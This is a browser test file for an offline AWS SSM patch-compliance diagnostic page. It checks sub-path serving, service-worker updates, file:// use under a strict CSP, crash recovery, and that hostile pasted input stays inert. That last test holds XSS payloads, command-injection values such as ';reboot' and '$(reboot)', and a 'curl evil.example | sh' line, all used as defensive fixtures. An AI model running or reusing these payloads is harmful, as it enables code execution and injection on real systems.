// Browser tests of a page that goes anywhere and survives anything: served from a sub-path,
// reloaded offline from its service worker (and updated without a stale mix of files), opened
// as one file from file://, an engine crash that sets one input aside and keeps the rest, and
// hostile input shown as text. Every one with zero egress and zero CSP violations.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { pathToFileURL } from "node:url";
import { artifacts, axeViolations, example, fixtureText, paste, repo, settled, start } from "./harness.mjs";

const SUB = "/tools/ssm-doctor/";
const STATES = "awscli-describe-instance-patch-states.json";
const empty = mkdtempSync(join(tmpdir(), "ssm-doctor-root-"));
let env;
before(async () => { env = await start({ root: empty, mounts: { [SUB]: join(repo, "dist") } }); });
after(async () => { await env?.close(); rmSync(empty, { recursive: true, force: true }); });

/** CSP violations reach the console as errors ("Refused to …"): none may happen. */
const violations = (errors) => errors.filter((e) => /Content Security Policy|Refused to/i.test(e));

test("served from a sub-path, the page loads everything relative to it", async () => {
  const { page, foreign, errors, context } = await env.open({ path: SUB });
  await paste(page, fixtureText(STATES));
  await page.locator('[data-testid="finding"][data-ref="P3"]').first().waitFor();
  await example(page, "pending-reboot.txt");
  await page.locator('[data-testid="finding"][data-ref="P4"]').first().waitFor();
  const outside = env.server.requests.filter((p) => !p.startsWith(SUB));
  assert.deepEqual(outside, [], "nothing is asked of the site root");
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await context.close();
});

test("after one visit the app reloads and works offline; a new build takes over on the next visit, never mixed", async () => {
  // A copy of the build the test can "deploy" a new version into.
  const site = mkdtempSync(join(tmpdir(), "ssm-doctor-site-"));
  cpSync(join(repo, "dist"), site, { recursive: true });
  const local = await start({ root: empty, mounts: { [SUB]: site } });
  try {
    const { page, context, foreign, errors } = await local.open({ path: SUB });
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 30000 });
    await context.setOffline(true);
    await page.reload();
    await page.getByTestId("paste").waitFor();
    await paste(page, fixtureText(STATES));
    await page.locator('[data-testid="finding"][data-ref="P3"]').first().waitFor();
    await example(page, "association.txt");
    await page.locator('[data-testid="finding"][data-role="cause"]').first().waitFor();
    await page.screenshot({ path: join(artifacts, "offline.png") });
    await context.setOffline(false);

    // A new build is deployed: the open page keeps its own build, whole (its files come from
    // its cache, not the server, which now has others).
    writeFileSync(join(site, "index.html"), readFileSync(join(site, "index.html"), "utf8").replace("<title>", '<meta name="build" content="two"><title>'));
    execFileSync("node", [join(repo, "scripts/offline.mjs"), site]);
    await page.reload();
    await page.getByTestId("paste").waitFor();
    assert.equal(await page.locator('meta[name="build"]').count(), 0, "the open build stays until its pages are closed");
    // The load asked for the new build, which installs beside the old one and waits. Its
    // install fetches the new build's files: counted from then, they would be the old page's.
    const waiting = () => page.evaluate(async () => Boolean((await navigator.serviceWorker.getRegistration())?.waiting));
    for (let i = 0; i < 150 && !(await waiting()); i++) await new Promise((ok) => setTimeout(ok, 200));
    assert.ok(await waiting(), "the new build is installed and waits");
    const asked = local.server.requests.length;
    await paste(page, fixtureText("awscli-describe-instance-information.json"));
    const fetched = local.server.requests.slice(asked).filter((p) => !p.endsWith("/sw.js"));
    assert.deepEqual(fetched, [], "the old page's engine comes from its own build's cache");
    await page.close();

    // The next visit gets the new build.
    let fresh;
    for (let i = 0; i < 20; i++) {
      fresh = await context.newPage();
      await fresh.goto(local.server.url + SUB);
      await fresh.getByTestId("paste").waitFor();
      if (await fresh.locator('meta[name="build"]').count()) break;
      await fresh.close();
      await new Promise((ok) => setTimeout(ok, 250));
    }
    assert.equal(await fresh.locator('meta[name="build"]').getAttribute("content"), "two");
    await paste(fresh, fixtureText(STATES));
    await fresh.locator('[data-testid="finding"][data-ref="P3"]').first().waitFor();
    assert.equal(await fresh.evaluate(async () => (await caches.keys()).filter((k) => k.startsWith("ssm-compliance-doctor-")).length), 1, "the old build's cache is gone");
    assert.deepEqual(foreign, []);
    assert.deepEqual(violations(errors), []);
    await context.close();
  } finally {
    await local.close();
    rmSync(site, { recursive: true, force: true });
  }
});

test("a browser that cannot run the app says what it needs; one that can never shows it", async () => {
  // A browser that runs the app never has the message in its page (nothing removes it: it is
  // made only where the app cannot start).
  const { page, context } = await env.open({ path: SUB });
  await page.getByTestId("paste").waitFor();
  assert.equal(await page.locator("#unsupported").count(), 0, "a browser that runs the app got the message");
  await context.close();
  // Without JavaScript (the noscript), without WebAssembly, and with a WebAssembly that refuses
  // the SIMD probe (as a browser without SIMD does): the message, at once.
  for (const how of ["no JavaScript", "no WebAssembly", "no SIMD"]) {
    const bare = await env.browser.newContext({ javaScriptEnabled: how !== "no JavaScript" });
    if (how === "no WebAssembly") await bare.addInitScript(() => { delete globalThis.WebAssembly; });
    if (how === "no SIMD") await bare.addInitScript(() => { WebAssembly.validate = () => false; });
    const page = await bare.newPage();
    const errors = [];
    page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
    await page.goto(env.server.url + SUB);
    const message = page.locator("#unsupported");
    await message.waitFor({ state: "visible", timeout: 10000 });
    assert.match(await message.textContent(), /WebAssembly with SIMD: Chrome or Edge 91, Firefox 89, Safari 16\.4/, how);
    assert.deepEqual(violations(errors), [], `${how}: the probe runs under the page's CSP`);
    await bare.close();
  }
});

test("the single-file build works from file:// with a strict CSP and no request at all", async () => {
  const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const page = await context.newPage();
  const requests = [];
  const errors = [];
  page.on("request", (r) => requests.push(r.url()));
  page.on("pageerror", (e) => errors.push(String(e)));
  page.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
  const url = pathToFileURL(join(repo, "dist-single/index.html")).href;
  await page.goto(url);
  await page.getByTestId("paste").waitFor();
  assert.equal(await page.locator("#unsupported").count(), 0, "the app started: no message");
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  assert.match(csp, /default-src 'none'/);
  assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|\*/);
  await paste(page, fixtureText(STATES));
  await page.locator('[data-testid="finding"][data-ref="P3"]').first().waitFor();
  await example(page, "pending-reboot.txt");
  await page.locator('[data-testid="finding"][data-ref="P4"]').first().waitFor();
  const outside = requests.filter((r) => !r.startsWith("file:") && !r.startsWith("blob:") && !r.startsWith("data:"));
  assert.deepEqual(outside, [], "nothing leaves the file");
  assert.deepEqual(errors, []);
  await page.screenshot({ path: join(artifacts, "single-file.png") });
  await context.close();
});

test("an engine crash sets that input aside and keeps the other inputs, the answers and the settings", async () => {
  const crash = await start({ root: join(repo, "dist-crash-test") });
  try {
    const { page, context, foreign, errors } = await crash.open({ hash: "#answers=N1:patch" });
    await page.getByTestId("region").fill("eu-west-3");
    await paste(page, fixtureText(STATES));
    await page.locator('[data-testid="finding"][data-ref="P3"]').first().waitFor();
    await paste(page, '{"note": "SSM-DOCTOR-CRASH-TEST"}');
    const failed = page.getByTestId("failed-input");
    await failed.waitFor();
    assert.match(await failed.innerText(), /Pasted text 2/);
    await settled(page);
    // The rest of the session, intact.
    assert.equal(await page.getByTestId("input-row").count(), 1);
    await page.locator('[data-testid="finding"][data-ref="P3"]').first().waitFor();
    assert.equal(await page.getByTestId("region").inputValue(), "eu-west-3");
    assert.match(page.url(), /answers=N1:patch/);
    assert.match(await page.getByTestId("command-text").first().innerText(), /eu-west-3/);
    // The details to report it: what the engine said, never the input.
    await failed.getByTestId("failed-copy").click();
    const details = await page.evaluate(() => navigator.clipboard.readText());
    assert.match(details, /deliberate crash/);
    assert.ok(!details.includes('"note"'), "no input data in the details");
    // The engine runs on: a new paste is diagnosed.
    await paste(page, fixtureText("awscli-describe-instance-information.json"));
    assert.equal(await page.getByTestId("input-row").count(), 2);
    assert.deepEqual(foreign, []);
    assert.deepEqual(violations(errors), []);
    await page.screenshot({ path: join(artifacts, "crash.png") });
    await context.close();
    // The set-aside input, checked by axe-core (which needs the CSP bypassed to be injected).
    const second = await crash.open({ bypassCSP: true });
    await paste(second.page, '{"note": "SSM-DOCTOR-CRASH-TEST"}');
    await second.page.getByTestId("failed-input").waitFor();
    assert.deepEqual(await axeViolations(second.page), []);
    await second.context.close();
  } finally {
    await crash.close();
  }
});

test("hostile input shows as text and a crafted id never reaches a command", async () => {
  const { page, context, foreign, errors } = await env.open({ path: SUB });
  await page.evaluate(() => { window.pwned = 0; });
  const hostile = [
    '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><a href="javascript:window.pwned=3">x</a>',
    '{"InstancePatchStates": [{"InstanceId": "i-0123456789abcdef0;reboot", "BaselineId": "pb-0123456789abcdef0$(reboot)", "PatchGroup": "`reboot`", "FailedCount": 2, "Operation": "Install"}]}',
    "2024-01-01 ERROR [instanceID=i-0aaaaaaaaaaaaaaaa' ; curl evil.example | sh #] <svg onload=window.pwned=4>",
  ].join("\n");
  await paste(page, hostile);
  assert.equal(await page.evaluate(() => window.pwned), 0, "nothing pasted ran");
  assert.equal(await page.locator("img[src=x], svg[onload], a[href^=javascript]").count(), 0, "nothing pasted became an element");
  const commands = await page.getByTestId("command-text").allInnerTexts();
  assert.ok(commands.length > 0);
  for (const command of commands) {
    assert.ok(!/;reboot|\$\(reboot\)|curl evil/.test(command), `a pasted value reached a command: ${command}`);
  }
  // The pasted markup is still shown, as text, where the evidence quotes it.
  const shown = await page.locator("body").innerText();
  assert.ok(shown.includes("i-0123456789abcdef0;reboot") || shown.includes("<script>"), "the pasted text is quoted as text");
  assert.deepEqual(foreign, []);
  assert.deepEqual(violations(errors), []);
  await context.close();
});
